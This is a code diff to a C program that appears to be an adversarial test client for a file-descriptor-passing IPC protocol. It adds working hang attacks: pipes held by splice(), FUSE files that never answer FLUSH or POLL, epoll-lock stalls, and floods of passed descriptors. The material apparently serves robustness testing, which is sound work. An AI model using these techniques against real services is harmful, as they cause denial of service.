@@ -27,9 +27,12 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/epoll.h>
+#include <sys/eventfd.h>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/uio.h>
 #include <unistd.h>
 
@@ -297,6 +300,9 @@ static void linger(const char *how)
 				die("socketpair");
 			if (raw_send(sv[1], "x", 1, &fds[0], 1, MSG_NOSIGNAL) != 1)
 				die("queueing the linger socket");
+			/* The queue holds the only reference now. */
+			close(fds[0]);
+			fds[0] = -1;
 			close(sv[1]);
 			for (int i = 0; i < 16; i++)
 				close(many[i]);
@@ -306,9 +312,13 @@ static void linger(const char *how)
 		envelope(&env, ENV_PTY, &msg);
 		header(frame, "DIPC", 1, (uint16_t)(n > 16 ? 16 : n), (uint32_t)env.n, 0);
 		memcpy(frame + HEADER_SIZE, env.b, env.n);
-		send_raw(frame, HEADER_SIZE + env.n, many, (size_t)n);
+		/* The Unix socket goes with the first byte and this process
+		 * closes its copy before the rest: the parent's close is last. */
+		send_raw(frame, n > 16 ? HEADER_SIZE + env.n : 1, many, (size_t)n);
 		for (int i = 0; i < (n > 16 ? 16 : n); i++)
 			close(many[i]);
+		if (n == 1)
+			send_raw(frame + 1, HEADER_SIZE + env.n - 1, NULL, 0);
 	} else {
 		put_uint(&msg, 1, 4);
 		put_uint(&msg, 2, ENOENT);
@@ -316,7 +326,8 @@ static void linger(const char *how)
 		envelope(&env, ENV_ERROR, &msg);
 		send_frame(&env, fds, 1);
 	}
-	close(fds[0]);
+	if (fds[0] >= 0)
+		close(fds[0]);
 }
 
 /* The start of a pty frame carrying this end of the channel itself, then
@@ -427,7 +438,8 @@ static void fuse_attr_of(struct fuse_attr *a, uint64_t ino)
 }
 
 /* Serves one file, /f; answers everything but FLUSH from others than the
- * attacker (its parent), which it keeps. */
+ * attacker (its parent) and POLL, which it keeps; its ioctl TIOCGPTN
+ * answers as a pty master's would. */
 static void fuse_serve(int fd)
 {
 	static uint8_t buf[1 << 17];
@@ -475,6 +487,23 @@ static void fuse_serve(int fd)
 			fuse_reply(fd, in->unique, 0, &o, sizeof(o));
 			break;
 		}
+		case FUSE_IOCTL: {
+			/* TIOCGPTN answers as a pty master would: pty 7. */
+			const struct fuse_ioctl_in *io = (const void *)(in + 1);
+			struct {
+				struct fuse_ioctl_out o;
+				uint32_t ptn;
+			} o = { .o = { .result = 0 }, .ptn = 7 };
+
+			if (io->cmd == TIOCGPTN)
+				fuse_reply(fd, in->unique, 0, &o, sizeof(o));
+			else
+				fuse_reply(fd, in->unique, -ENOTTY, NULL, 0);
+			break;
+		}
+		case FUSE_POLL:
+			/* Never answered: a poll of the file waits for ever. */
+			break;
 		case FUSE_FLUSH:
 			/* Only the attacker's own closes are answered. */
 			if (in->pid == (uint32_t)getppid())
@@ -500,12 +529,11 @@ static void fuse_probe(void)
 	exit(0);
 }
 
-/* A file of its own FUSE file system as the pty master: the parent's
- * fstat would ask the server, its close sends FLUSH, never answered. The
- * server dies with this process (and with it every wait on it). */
-static void fuse_pty(void)
+/* Starts the FUSE server of fuse_mount()'s /dev/fuse fd in a process that
+ * dies with this one. */
+static void fuse_start(void)
 {
-	int dev = fuse_mount(), fd;
+	int dev = fuse_mount();
 	pid_t server = fork();
 
 	if (server < 0)
@@ -517,11 +545,272 @@ static void fuse_pty(void)
 		fuse_serve(dev);
 	}
 	close(dev);
-	fd = open("/tmp/f", O_RDWR | O_CLOEXEC);
+}
+
+static int fuse_open(void)
+{
+	int fd = open("/tmp/f", O_RDWR | O_CLOEXEC);
+
 	if (fd < 0)
 		die("open /tmp/f on FUSE");
+	return fd;
+}
+
+/* A file of its own FUSE file system as the pty master: the parent's
+ * fstat would ask the server, its close sends FLUSH, never answered. The
+ * server dies with this process (and with it every wait on it). */
+static void fuse_pty(void)
+{
+	int fd;
+
+	fuse_start();
+	fd = fuse_open();
 	send_pty(fd, 0);
 	close(fd);
+}
+
+/* ---- pipes held by splice() ------------------------------------------------ */
+
+/* Whether process pid sleeps in system call nr (from /proc/PID/syscall
+ * and the state in /proc/PID/stat). */
+static int asleep_in(pid_t pid, long nr)
+{
+	char path[64], state = '?';
+	long cur = -1;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/syscall", (int)pid);
+	f = fopen(path, "re");
+	if (!f)
+		return 0;
+	if (fscanf(f, "%ld", &cur) != 1)
+		cur = -1;
+	fclose(f);
+	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
+	f = fopen(path, "re");
+	if (!f)
+		return 0;
+	if (fscanf(f, "%*d (%*[^)]) %c", &state) != 1)
+		state = '?';
+	fclose(f);
+	return cur == nr && state == 'S';
+}
+
+/*
+ * The read end of a pipe whose mutex a process of this one holds:
+ * splice() from a socket that never gets data into the pipe holds the
+ * pipe's lock across the wait, and the last close of either end needs it
+ * (pipe_release()). The holder dies with this process.
+ */
+static int held_pipe(void)
+{
+	static int keep = -1; /* the socket's other end: no EOF for splice */
+	int p[2], s[2];
+	pid_t holder;
+
+	if (pipe2(p, O_CLOEXEC) < 0 || socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, s) < 0)
+		die("pipe");
+	holder = fork();
+	if (holder < 0)
+		die("fork");
+	if (holder == 0) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		if (getppid() == 1)
+			_exit(0);
+		close(p[0]);
+		splice(s[0], NULL, p[1], NULL, 65536, 0);
+		_exit(0);
+	}
+	close(p[1]);
+	close(s[0]);
+	if (keep < 0)
+		keep = s[1];
+	/* Until the holder sleeps in splice, waiting for data with the lock
+	 * held (2 s at most). */
+	for (int i = 0; i < 200 && !asleep_in(holder, SYS_splice); i++)
+		usleep(1000);
+	return p[0];
+}
+
+/*
+ * The held pipe as the pty master, with an error report, or as the 17th
+ * fd of a frame. The parent's close must be the last one (only the last
+ * takes the lock): a sender process B, the only other holder, closes its
+ * copy before the frame is complete (it sends the first byte with the fd,
+ * closes it, then the rest), so the parent, which closes only once the
+ * frame is complete or failed, closes last. The 17th fd is closed as it
+ * arrives: there B may close last and wait in its stead. B, not this
+ * process, is the one that may wait, so that killing this process (and
+ * with it the holder) always works.
+ */
+static void splice_attack(const char *how)
+{
+	struct buf msg = { .n = 0 }, env;
+	uint8_t frame[HEADER_SIZE + 64];
+	size_t len, first = 1;
+	int fd = held_pipe(), many[17], n = 1;
+	pid_t sender = fork();
+
+	if (sender < 0)
+		die("fork");
+	if (sender > 0) {
+		close(fd);
+		return;
+	}
+	if (!strcmp(how, "error")) {
+		put_uint(&msg, 1, 4);
+		put_uint(&msg, 2, ENOENT);
+		put_str(&msg, 3, "held");
+		envelope(&env, ENV_ERROR, &msg);
+	} else {
+		envelope(&env, ENV_PTY, &msg);
+	}
+	many[0] = fd;
+	if (!strcmp(how, "beyond_16")) {
+		for (int i = 0; i < 16; i++)
+			many[i] = open("/dev/null", O_RDONLY | O_CLOEXEC);
+		many[16] = fd;
+		n = 17;
+	}
+	header(frame, "DIPC", 1, (uint16_t)(n > 16 ? 16 : n), (uint32_t)env.n, 0);
+	memcpy(frame + HEADER_SIZE, env.b, env.n);
+	len = HEADER_SIZE + env.n;
+	if (n > 16)
+		first = len;
+	send_raw(frame, first, many, (size_t)n);
+	for (int i = 0; i < n; i++)
+		close(many[i]);
+	if (first < len)
+		send_raw(frame + first, len - first, NULL, 0);
+	_exit(0);
+}
+
+/* ---- floods ------------------------------------------------------------------ */
+
+/* A pty frame carrying fd, whose first byte goes with fd; this process's
+ * copy is closed before the rest, so that the parent's close is the last. */
+static int send_pty_last(int fd)
+{
+	struct buf pty = { .n = 0 }, env;
+	uint8_t frame[HEADER_SIZE + 16];
+	ssize_t n;
+
+	envelope(&env, ENV_PTY, &pty);
+	header(frame, "DIPC", 1, 1, (uint32_t)env.n, 0);
+	memcpy(frame + HEADER_SIZE, env.b, env.n);
+	n = raw_send(sock, frame, 1, &fd, 1, MSG_NOSIGNAL);
+	close(fd);
+	if (n != 1)
+		return -1;
+	n = raw_send(sock, frame + 1, HEADER_SIZE + env.n - 1, NULL, 0, MSG_NOSIGNAL);
+	return n == (ssize_t)(HEADER_SIZE + env.n - 1) ? 0 : -1;
+}
+
+/* One frame with 253 fds of the FUSE file (the header announces 16). */
+static void fuse_flood(void)
+{
+	static int fds[RAW_SEND_MAX_FDS];
+	struct buf pty = { .n = 0 }, env;
+	uint8_t frame[HEADER_SIZE + 16];
+
+	fuse_start();
+	for (int i = 0; i < RAW_SEND_MAX_FDS; i++)
+		fds[i] = fuse_open();
+	envelope(&env, ENV_PTY, &pty);
+	header(frame, "DIPC", 1, 16, (uint32_t)env.n, 0);
+	memcpy(frame + HEADER_SIZE, env.b, env.n);
+	send_raw(frame, HEADER_SIZE + env.n, fds, RAW_SEND_MAX_FDS);
+	for (int i = 0; i < RAW_SEND_MAX_FDS; i++)
+		close(fds[i]);
+}
+
+/* 2000 pty frames, each with another fd of the FUSE file. */
+static void fuse_frames(void)
+{
+	fuse_start();
+	for (int i = 0; i < 2000; i++) {
+		if (send_pty_last(fuse_open()) < 0)
+			break;
+	}
+}
+
+/* 2000 pty frames, each with a Unix socket; the first one's queue holds a
+ * lingering TCP socket (whose close waits without end). */
+static void frames_linger(void)
+{
+	for (int i = 0; i < 2000; i++) {
+		int sv[2];
+
+		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
+			die("socketpair");
+		if (i == 0) {
+			int l = linger_socket();
+
+			if (raw_send(sv[1], "x", 1, &l, 1, MSG_NOSIGNAL) != 1)
+				die("queueing the linger socket");
+			close(l);
+		}
+		close(sv[1]);
+		if (send_pty_last(sv[0]) < 0)
+			break;
+	}
+}
+
+/*
+ * An eventfd registered in an epoll instance whose lock a process of ours
+ * holds: epoll_ctl() adding the FUSE file polls it with the instance's
+ * mutex held, and the server never answers the poll. The last close of
+ * any file in that instance takes the mutex (eventpoll_release_file()).
+ */
+static void epoll_eventfd(void)
+{
+	struct epoll_event e = { .events = EPOLLIN };
+	int ep, ev, f;
+	pid_t holder;
+
+	/* The server first: it must hold no copy of the eventfd. */
+	fuse_start();
+	f = fuse_open();
+	ep = epoll_create1(EPOLL_CLOEXEC);
+	ev = eventfd(0, EFD_CLOEXEC);
+	if (ep < 0 || ev < 0 || epoll_ctl(ep, EPOLL_CTL_ADD, ev, &e) < 0)
+		die("epoll");
+	holder = fork();
+	if (holder < 0)
+		die("fork");
+	if (holder == 0) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		if (getppid() == 1)
+			_exit(0);
+		close(ev);
+		epoll_ctl(ep, EPOLL_CTL_ADD, f, &e);
+		_exit(0);
+	}
+	close(f);
+	for (int i = 0; i < 2000 && !asleep_in(holder, SYS_epoll_ctl); i++)
+		usleep(1000);
+	send_pty_last(ev);
+}
+
+/* This end of the channel inside the queue of another Unix socket, which
+ * goes with the first byte of a frame; then death. Nothing the parent can
+ * see holds its end: only the pidfd or the timeout ends the wait. */
+static void own_end_queued(void)
+{
+	struct buf pty = { .n = 0 }, env;
+	uint8_t frame[HEADER_SIZE + 16];
+	int q[2];
+
+	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, q) < 0)
+		die("socketpair");
+	if (raw_send(q[1], "x", 1, &sock, 1, MSG_NOSIGNAL) != 1)
+		die("queueing the channel's end");
+	close(q[1]);
+	envelope(&env, ENV_PTY, &pty);
+	header(frame, "DIPC", 1, 1, (uint32_t)env.n + 10, 0);
+	memcpy(frame + HEADER_SIZE, env.b, env.n);
+	send_raw(frame, HEADER_SIZE + 1, &q[0], 1);
+	exit(0);
 }
 
 /* ---- the attacks ---------------------------------------------------------- */
@@ -825,6 +1114,18 @@ int main(int argc, char **argv)
 		fuse_probe();
 	else if (!strcmp(a, "fuse_pty"))
 		fuse_pty();
+	else if (!strncmp(a, "splice_", 7))
+		splice_attack(a + 7);
+	else if (!strcmp(a, "fuse_flood"))
+		fuse_flood();
+	else if (!strcmp(a, "fuse_frames"))
+		fuse_frames();
+	else if (!strcmp(a, "frames_linger"))
+		frames_linger();
+	else if (!strcmp(a, "epoll_eventfd"))
+		epoll_eventfd();
+	else if (!strcmp(a, "own_end_queued"))
+		own_end_queued();
 	else if (!strcmp(a, "never_reads"))
 		; /* nothing: the parent's sends fill the socket buffer */
 	else {
